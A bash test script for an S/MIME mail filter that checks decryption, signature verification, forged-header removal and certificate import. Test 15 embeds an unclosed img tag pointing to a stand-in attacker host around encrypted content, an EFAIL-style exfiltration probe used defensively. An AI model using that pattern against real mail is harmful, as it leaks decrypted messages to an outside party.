#!/bin/bash
# postern-milter -t (offline mode) on real S/MIME mail made with the
# openssl command line: decryption for internal recipients, none for
# external ones, strict mode, signature verification with From match and
# mismatch, tampering, forged info headers, the subject filter and tags,
# signature removal, certificate import (and its skip-untrusted and off
# settings), ciphertext below the root (mixed content), and the
# X-CipherMail-Info prefix.
set -u
top=${POSTERN_TOP:-$(cd "$(dirname "$0")/../.." && pwd)}
O=${O:-build}
milter=$top/$O/bin/postern-milter
ctl=$top/$O/bin/posternctl
command -v openssl >/dev/null || exit 77
tmp=$(mktemp -d /tmp/postern-smime.XXXXXX)
trap '[ -n "${KEEP:-}" ] || rm -rf "$tmp"' EXIT
fails=0
ok() { echo "ok: $*"; }
bad() { echo "FAIL: $*"; fails=$((fails + 1)); }
has() { grep -qiF -- "$2" "$1" || { bad "$3: no '$2' in output"; sed 's/^/    /' "$1" | head -40; return 1; }; }
hasnt() { ! grep -qiF -- "$2" "$1" || { bad "$3: unexpected '$2'"; return 1; }; }

sh "$top/t/data/mkpki.sh" "$tmp/pki" >/dev/null || { echo "mkpki failed"; exit 1; }
cat > "$tmp/p.conf" <<EOC
state_directory = $tmp/state
master_key_file = $tmp/master.key
log_destination = stderr
EOC
c() { "$ctl" -c "$tmp/p.conf" "$@" >/dev/null || bad "posternctl $*"; }
c init
c domain add example.com
c set --domain example.com locality internal
c root import "$tmp/pki/root.crt"
c cert import "$tmp/pki/inter.crt"
echo secret > "$tmp/pw"
c key import "$tmp/pki/alice.p12" --password-file "$tmp/pw"

# run NAME FILE SENDER RCPT...: the milter's result in $tmp/NAME.out/.log
run() {
	local name=$1 file=$2 from=$3; shift 3
	local args=()
	for r in "$@"; do args+=(-r "$r"); done
	"$milter" -c "$tmp/p.conf" -t "$file" -f "$from" "${args[@]}" \
	    >"$tmp/$name.out" 2>"$tmp/$name.log"
	echo $? > "$tmp/$name.rc"
}

printf 'Content-Type: text/plain; charset=us-ascii\r\n\r\nThe launch code is 1234.\r\n' > "$tmp/inner.eml"
# signed_mail FROM SUBJECT NAME [openssl cms -sign options...]: inner.eml
# signed with pki/NAME.crt and .key, CRLF, with From, To and Subject
signed_mail() {
	local from=$1 subject=$2 name=$3
	shift 3
	printf 'From: %s\r\nTo: dave@example.com\r\nSubject: %s\r\n' "$from" "$subject"
	openssl cms -sign -signer "$tmp/pki/$name.crt" -inkey "$tmp/pki/$name.key" \
	    "$@" -in "$tmp/inner.eml" | tr -d '\r' | sed 's/$/\r/'
}
{
	printf 'From: Bob <bob@example.net>\r\nTo: alice@example.com\r\nSubject: secret plan\r\n'
	printf 'X-Postern-Info-Signer-Verified-0-0: True\r\nX-CipherMail-Info-SMIME-Signed: True\r\n'
	openssl cms -encrypt -aes128 -in "$tmp/inner.eml" "$tmp/pki/alice.crt" | tr -d '\r' | sed 's/$/\r/'
} > "$tmp/enc.eml"

# 1. internal recipient with the key: decrypted, headers, tag, no forgeries
run dec "$tmp/enc.eml" bob@example.net alice@example.com
[ "$(cat "$tmp/dec.rc")" = 0 ] || bad "dec: exit $(cat "$tmp/dec.rc")"
has "$tmp/dec.out" "The launch code is 1234." dec && ok "decrypted for an internal recipient"
has "$tmp/dec.out" "X-Postern-Info-SMIME-Encrypted: True" dec
has "$tmp/dec.out" "X-Postern-Info-Encryption-Algorithm-0: AES128" dec
has "$tmp/dec.out" "X-Postern-Info-Encryption-Recipient-0-0:" dec
has "$tmp/dec.out" "Subject: secret plan [decrypted]" dec && ok "decrypted tag"
hasnt "$tmp/dec.out" "X-Postern-Info-Signer-Verified-0-0: True" dec && ok "forged info header removed"
hasnt "$tmp/dec.out" "X-CipherMail-Info" dec
hasnt "$tmp/dec.out" "application/pkcs7-mime" dec
has "$tmp/dec.log" "action=decrypted" dec
has "$tmp/dec.log" "OFFLINE: milter: found=smime-enveloped" dec && ok "log line"

# 2. one external recipient: left encrypted, says why
run ext "$tmp/enc.eml" bob@example.net alice@example.com carol@example.net
has "$tmp/ext.out" "application/pkcs7-mime" ext
hasnt "$tmp/ext.out" "launch code" ext
has "$tmp/ext.out" "X-Postern-Info-Decryption-Skipped: recipient carol@example.net is not internal" ext && ok "external recipient: stays encrypted"
hasnt "$tmp/ext.out" "X-Postern-Info-Signer-Verified-0-0: True" ext

# 3. strict mode: carol has no claim to alice's key
c set --domain example.com smime.strict true
run strict "$tmp/enc.eml" bob@example.net alice@example.com carol@example.com
hasnt "$tmp/strict.out" "launch code" strict
has "$tmp/strict.out" "X-Postern-Info-Decryption-Skipped: strict mode: carol@example.com" strict && ok "strict mode refuses carol"
run strict2 "$tmp/enc.eml" bob@example.net alice@example.com
has "$tmp/strict2.out" "The launch code is 1234." strict2 && ok "strict mode allows alice (email match)"
c unset --domain example.com smime.strict

# 4. signed by alice, From alice: valid
signed_mail alice@example.com "signed note" alice -certfile "$tmp/pki/inter.crt" > "$tmp/sig.eml"
run sig "$tmp/sig.eml" alice@example.com dave@example.com
has "$tmp/sig.out" "X-Postern-Info-Signer-Verified-0-0: True" sig
has "$tmp/sig.out" "X-Postern-Info-Signer-Trusted-0-0: True" sig
has "$tmp/sig.out" "X-Postern-Info-SMIME-Signed: True" sig
has "$tmp/sig.out" "Subject: signed note [signed]" sig && ok "valid signature"
hasnt "$tmp/sig.out" "Signer-Mismatch" sig

# 5. the same signature under another From: mismatch, "signed by" tag
sed 's/^From: alice@example.com/From: mallory@example.org/' "$tmp/sig.eml" > "$tmp/mis.eml"
run mis "$tmp/mis.eml" mallory@example.org dave@example.com
has "$tmp/mis.out" "X-Postern-Info-Signer-Mismatch: True" mis
has "$tmp/mis.out" "[signed by: alice@example.com]" mis && ok "signer/From mismatch reported"

# 6. tampered content: not verified, invalid tag
sed 's/launch code is 1234/launch code is 9999/' "$tmp/sig.eml" > "$tmp/tam.eml"
run tam "$tmp/tam.eml" alice@example.com dave@example.com
has "$tmp/tam.out" "X-Postern-Info-Signer-Verified-0-0: False" tam
has "$tmp/tam.out" "[invalid signature!]" tam && ok "tampered signature fails"

# 7. subject filter removes a forged tag before ours is added
c set --global subject-filter.enabled true
sed 's/^Subject: signed note/Subject: signed note [decrypted]/' "$tmp/sig.eml" > "$tmp/sf.eml"
run sf "$tmp/sf.eml" alice@example.com dave@example.com
has "$tmp/sf.out" "Subject: signed note [signed]" sf && ok "subject filter removes forged tags"

# 8. the certificate of a signed mail was imported
"$ctl" -c "$tmp/p.conf" cert list --email alice@example.com > "$tmp/list" 2>&1
has "$tmp/list" "alice" import && ok "signer certificate in the store"

# 9. encrypted for a certificate whose key we do not have: unchanged + header
{
	printf 'From: bob@example.net\r\nTo: alice@example.com\r\nSubject: not for us\r\n'
	openssl cms -encrypt -aes128 -in "$tmp/inner.eml" "$tmp/pki/orphan.crt" | tr -d '\r' | sed 's/$/\r/'
} > "$tmp/nokey.eml"
run nokey "$tmp/nokey.eml" bob@example.net alice@example.com
[ "$(cat "$tmp/nokey.rc")" = 0 ] || bad "nokey: exit $(cat "$tmp/nokey.rc")"
has "$tmp/nokey.out" "X-Postern-Info-SMIME-Decryption-Key-Not-Found: True" nokey
has "$tmp/nokey.out" "application/pkcs7-mime" nokey
hasnt "$tmp/nokey.out" "[decrypted]" nokey && ok "no key: passed encrypted, said so"

# 10. a damaged CMS body: unchanged, never marked decrypted or signed
sed '/^MII/,$ s/[A-Za-z]/A/g' "$tmp/enc.eml" > "$tmp/bad.eml"
run bad "$tmp/bad.eml" bob@example.net alice@example.com
[ "$(cat "$tmp/bad.rc")" = 0 ] || bad "bad: exit $(cat "$tmp/bad.rc")"
has "$tmp/bad.out" "application/pkcs7-mime" bad
hasnt "$tmp/bad.out" "[decrypted]" bad
hasnt "$tmp/bad.out" "Signer-Verified-0-0: True" bad
grep -qE "X-Postern-Info-SMIME-(Decryption-Failed|Decryption-Key-Not-Found)" "$tmp/bad.out" &&
    ok "damaged CMS: passed unchanged with an info header" || bad "bad: no info header"

# 11. larger than milter_max_message_size: untouched but for our header
echo "milter_max_message_size = 1k" >> "$tmp/p.conf"
run big "$tmp/enc.eml" bob@example.net alice@example.com
has "$tmp/big.log" "larger than milter_max_message_size" big && ok "too large: passes unchanged"
sed -i '/^milter_max_message_size/d' "$tmp/p.conf"

# 13. smime.remove-signature: the signature layer goes, the verdict stays
c set --global smime.remove-signature true
run rs "$tmp/sig.eml" alice@example.com dave@example.com
has "$tmp/rs.out" "X-Postern-Info-Signer-Verified-0-0: True" rs
has "$tmp/rs.out" "The launch code is 1234." rs
hasnt "$tmp/rs.out" "multipart/signed" rs
hasnt "$tmp/rs.out" "pkcs7-signature" rs
has "$tmp/rs.log" "signature=removed" rs && ok "remove-signature: signature layer removed"
c unset --global smime.remove-signature

# 14. certificates of signed mail: smime.skip-untrusted-import keeps an
#     untrusted (here expired) signer out of the store, off lets it in
signed_mail old@example.com "old key" expired > "$tmp/old.eml"
c set --global smime.skip-untrusted-import true
run old1 "$tmp/old.eml" old@example.com dave@example.com
has "$tmp/old1.out" "X-Postern-Info-Signer-Trusted-0-0: False" old1
"$ctl" -c "$tmp/p.conf" --json cert list --email old@example.com > "$tmp/old1.list" 2>&1
[ "$(tr -d ' \n' < "$tmp/old1.list")" = "[]" ] && ok "skip-untrusted-import: expired signer not imported" ||
    bad "skip-untrusted-import: imported: $(cat "$tmp/old1.list")"
c set --global smime.skip-untrusted-import false
run old2 "$tmp/old.eml" old@example.com dave@example.com
"$ctl" -c "$tmp/p.conf" cert list --email old@example.com > "$tmp/old2.list" 2>&1
has "$tmp/old2.list" "old@example.com" old2 && ok "without skip-untrusted-import: imported"
c set --global smime.import-certificates false
signed_mail alice@example.com "new key" alice2 -certfile "$tmp/pki/inter.crt" > "$tmp/new.eml"
run old3 "$tmp/new.eml" alice@example.com dave@example.com
has "$tmp/old3.out" "X-Postern-Info-Signer-Verified-0-0: True" old3
a2=$(openssl x509 -in "$tmp/pki/alice2.crt" -noout -fingerprint -sha512 | sed 's/.*=//; s/://g')
if "$ctl" -c "$tmp/p.conf" cert show "$a2" >/dev/null 2>&1; then
	bad "import-certificates false: alice2 imported"
else
	ok "import-certificates false: nothing imported"
fi
c unset --global smime.import-certificates
c unset --global smime.skip-untrusted-import

# 15. S/MIME inside a multipart/mixed (not the root): never decrypted
#     into the surrounding content, mixed-content tag
{
	printf 'From: Bob <bob@example.net>\r\nTo: alice@example.com\r\nSubject: look\r\n'
	printf 'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="xx"\r\n\r\n'
	printf -- '--xx\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n'
	printf -- '--xx\r\n'
	sed '1,3d' "$tmp/enc.eml"
	printf -- '\r\n--xx--\r\n'
} > "$tmp/mix.eml"
run mix "$tmp/mix.eml" bob@example.net alice@example.com
hasnt "$tmp/mix.out" "launch code" mix
has "$tmp/mix.out" "X-Postern-Info-SMIME-Mixed-Content: True" mix
has "$tmp/mix.out" "Subject: look [mixed content]" mix && ok "mixed content: not decrypted, tagged"

# 17. no From and no Sender: the envelope sender is the originator the
#     signer is compared with (seed 003 section 4.1)
sed '/^From: /d' "$tmp/sig.eml" > "$tmp/nofrom.eml"
run nofrom "$tmp/nofrom.eml" alice@example.com dave@example.com
has "$tmp/nofrom.out" "X-Postern-Info-Signer-Verified-0-0: True" nofrom
hasnt "$tmp/nofrom.out" "Signer-Mismatch" nofrom && ok "no From: MAIL FROM matches the signer"
run nofrom2 "$tmp/nofrom.eml" mallory@example.org dave@example.com
has "$tmp/nofrom2.out" "X-Postern-Info-Signer-Mismatch: True" nofrom2 &&
    ok "no From: another MAIL FROM is a mismatch"

# 16. recipients named by subject key identifier (-keyid), OAEP
#     (SHA-256) and AES-256-GCM (AuthEnvelopedData): found and decrypted
{
	printf 'From: Bob <bob@example.net>\r\nTo: alice@example.com\r\nSubject: by keyid\r\n'
	openssl cms -encrypt -aes-256-gcm -keyid -recip "$tmp/pki/alice.crt" \
	    -keyopt rsa_padding_mode:oaep -keyopt rsa_oaep_md:sha256 \
	    -in "$tmp/inner.eml" | tr -d '\r' | sed 's/$/\r/'
} > "$tmp/kid.eml"
run kid "$tmp/kid.eml" bob@example.net alice@example.com
has "$tmp/kid.out" "The launch code is 1234." kid
has "$tmp/kid.out" "X-Postern-Info-Encryption-Algorithm-0: AES256-GCM, Key size: 256" kid
has "$tmp/kid.out" "/1.2.840.113549.1.1.7" kid && ok "SKI recipient, OAEP, AES-256-GCM: decrypted"

# 12. drop-in for CipherMail users: info_header_prefix = X-CipherMail-Info
#     (and ours among the legacy prefixes): the same headers under that
#     name, every forgery under either name removed
cp "$tmp/p.conf" "$tmp/p.conf.orig"
{ echo "info_header_prefix = X-CipherMail-Info"
  echo "legacy_info_header_prefixes = X-Postern-Info X-Djigzo-Info"; } >> "$tmp/p.conf"
run cm "$tmp/enc.eml" bob@example.net alice@example.com
has "$tmp/cm.out" "The launch code is 1234." cm
has "$tmp/cm.out" "X-CipherMail-Info-SMIME-Encrypted: True" cm
has "$tmp/cm.out" "X-CipherMail-Info-Encryption-Algorithm-0: AES128, Key size: 128" cm
has "$tmp/cm.out" "X-CipherMail-Info-Encryption-Recipient-0-0: O=Postern Test, CN=Test" cm
hasnt "$tmp/cm.out" "X-CipherMail-Info-SMIME-Signed" cm
hasnt "$tmp/cm.out" "X-Postern-Info" cm && ok "X-CipherMail-Info prefix: headers renamed, forgeries gone"
run cmsig "$tmp/sig.eml" alice@example.com dave@example.com
has "$tmp/cmsig.out" "X-CipherMail-Info-Signer-Verified-0-0: True" cmsig
has "$tmp/cmsig.out" "X-CipherMail-Info-Signer-Trusted-0-0: True" cmsig &&
    ok "X-CipherMail-Info prefix: signer headers"
mv "$tmp/p.conf.orig" "$tmp/p.conf"

[ $fails -eq 0 ] || { echo "$fails failure(s)"; exit 1; }
echo "all passed"
